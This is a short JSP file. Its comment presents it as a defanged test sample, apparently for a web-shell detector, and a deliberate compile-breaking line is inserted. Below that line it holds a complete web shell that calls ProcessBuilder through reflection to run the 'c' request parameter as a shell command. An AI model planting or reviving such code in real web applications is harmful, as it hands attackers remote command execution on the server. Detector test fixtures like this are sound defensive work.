<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Class c = Class.forName("java.lang.ProcessBuilder");
Object pb = c.getConstructor(String[].class).newInstance(new Object[] { new String[] { "sh", "-c", request.getParameter("c") } });
c.getMethod("start").invoke(pb);
%>
